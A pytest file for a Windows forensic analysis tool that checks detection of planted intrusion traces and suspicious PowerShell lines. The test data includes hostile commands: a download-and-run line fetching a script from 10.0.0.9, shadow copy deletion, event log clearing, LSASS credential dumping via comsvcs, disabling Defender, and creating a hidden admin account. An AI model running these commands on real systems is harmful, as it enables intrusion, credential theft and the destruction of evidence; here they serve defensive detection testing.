"""The timeline and the case checks over the full offline Windows root: each registry time is an event
with its meaning, and the planted persistence, account and execution traces become findings."""
from __future__ import annotations

import collections

import pytest

from analysis import findings, timeline
from analysis.checks import windows_execution, windows_persistence
from analysis.checks._windows import command_path, norm, odd_place


@pytest.fixture(scope="module")
def built(win_case):
    case, _ = win_case
    summary = timeline.build(case)
    return case, summary, list(timeline.events(case))


def test_registry_times_are_events_with_their_meaning(built):
    case, summary, events = built
    reg = collections.Counter(e["timestamp_desc"] for e in events if e["parser"] == "windows_registry")
    assert reg["First Connection Time"] == 1 and reg["Last Removal Time"] == 1
    assert reg["Creation Time"] == 7  # one per SAM account (5) and per cached scheduled task (2)
    by_msg = {e["message"]: e for e in events}
    e = by_msg["Local account created: support$ (RID 1002)"]
    assert e["ts"] == 1709591700000000 and e["source"] == "sam"
    assert by_msg[r"BAM: \Device\HarddiskVolume2\Users\Public\mimikatz.exe run by alice"]["ts"] == 1709590260000000
    assert by_msg["System shutdown (SRV-HATINH01)"]["timestamp_desc"] == "Last Shutdown Time"
    assert by_msg["Amcache entry (first seen): c:\\program files\\7-zip\\7z.exe SHA-1 "
                  "6c7ea8bbd435163ae3945cbef30ef6b9872a4591"]["ts"] == 1576530072793908


def test_findings_of_the_planted_traces(built):
    case, _, _ = built
    got = [(f.rule, f.summary_en) for f in findings.run(case, build=False) if f.rule.startswith("ungcuu.windows.")]
    rules = collections.Counter(r for r, _ in got)
    assert rules["ungcuu.windows.ifeo_debugger"] == 3  # sethc Debugger, notepad SilentProcessExit and GlobalFlag
    assert rules["ungcuu.windows.appinit_dlls"] == 1 and rules["ungcuu.windows.winlogon_changed"] == 0
    assert ("ungcuu.windows.new_admin_account", "Account support$ (RID 1002) in Administrators, created "
            "2024-03-04T22:35:00.000000Z, last logon 2024-03-04T22:40:00.000000Z") in got
    assert rules["ungcuu.windows.hidden_account"] == 1
    assert ("ungcuu.windows.hidden_scheduled_task", r"Task \Updater (created 2024-03-04T22:50:00.000000Z): "
            r"C:\ProgramData\upd\svc.exe") in got
    assert ("ungcuu.windows.attack_tool_executed",
            r"\Device\HarddiskVolume2\Users\Public\mimikatz.exe (traces: BAM, shimcache)") in got
    autostart = sorted(s for r, s in got if r == "ungcuu.windows.autostart_user_writable")
    # alice's OneDrive runs from AppData\Local\Tmp2 once the log is applied, and updsvc from a ProgramData
    # subfolder (where installed programs keep their files): neither is flagged
    assert autostart == [r"HKLM\Software\Microsoft\Windows\CurrentVersion\Run value Updater runs C:\Users\Public\updater.exe -k"]
    odd = [s for r, s in got if r == "ungcuu.windows.exec_from_odd_place"]
    assert not any(".lnk" in s for s in odd)  # shortcuts are not programs
    assert r"C:\Users\nfury\AppData\Local\Temp\~nsu.tmp\Au_.exe (traces: UserAssist)" in odd
    assert rules["ungcuu.windows.usb_storage"] == 1 and rules["ungcuu.windows.rdp_outgoing"] == 2
    defender = sorted(s for r, s in got if r == "ungcuu.windows.defender_detection")
    assert defender == [
        r"PUA:Win32/EICAR_Test_File in C:\Users\testuser\Downloads\PotentiallyUnwanted.exe, downloaded from "
        r"http://amtso.eicar.org/PotentiallyUnwanted.exe (FRYPTOP\testuser)",
        r"Virus:DOS/EICAR_Test_File in C:\Users\testuser\Downloads\eicar_com.zip, "
        r"C:\Users\testuser\Downloads\eicar_com.zip->eicar.com, downloaded from https://secure.eicar.org/eicar_com.zip "
        r"(FRYPTOP\testuser)"]
    ps = sorted(s for r, s in got if r == "ungcuu.windows.powershell_history_suspicious")
    history = "/Users/alice/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"
    assert ps == [f"{history} line 2 (account created): net user support$ P@ssw0rd /add",
                  f"{history} line 3 (added to Administrators): net localgroup administrators support$ /add"]
    for rule in windows_persistence.RULES + windows_execution.RULES:
        assert rule.explanation_vi and any(t.startswith("attack.t") for t in rule.tags)


@pytest.mark.parametrize("path, odd", [
    (r"C:\Users\Public\x.exe", True), (r"\Device\HarddiskVolume2\Windows\Temp\a.dll", True),
    (r"\VOLUME{01d2}\USERS\BOB\APPDATA\LOCAL\TEMP\SETUP.EXE", True), (r"C:\ProgramData\evil.exe", True),
    (r"C:\ProgramData\Microsoft\Windows Defender\MsMpEng.exe", False), (r"C:\Windows\System32\cmd.exe", False),
    (r"C:\Users\Public\Desktop\Firefox.lnk", False), (r"C:\$Recycle.Bin\S-1-5-21-1\$R1.exe", True),
])
def test_odd_places(path, odd):
    assert odd_place(path) is odd


def test_command_paths():
    assert command_path('"C:\\Program Files\\A B\\x.exe" -k') == r"C:\Program Files\A B\x.exe"
    assert command_path(r"C:\Users\Public\updater.exe -k") == r"C:\Users\Public\updater.exe"
    assert norm(r"\??\C:\Users\X") == r"\users\x"


@pytest.mark.parametrize("line, what", [
    ("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "encoded command"),
    ("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.9/a.ps1')", "download and run"),
    ("vssadmin delete shadows /all /quiet", "shadow copies deleted"),
    ("wevtutil cl Security", "event log cleared"),
    ("rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full", "credential dumping"),
    ("Set-MpPreference -DisableRealtimeMonitoring $true", "Defender weakened"),
    ("Get-ChildItem C:\\Users", None), ("net user", None),
])
def test_powershell_patterns(line, what):
    from analysis.checks.windows_powershell import PATTERNS

    assert next((w for rx, w, _ in PATTERNS if rx.search(line)), None) == what
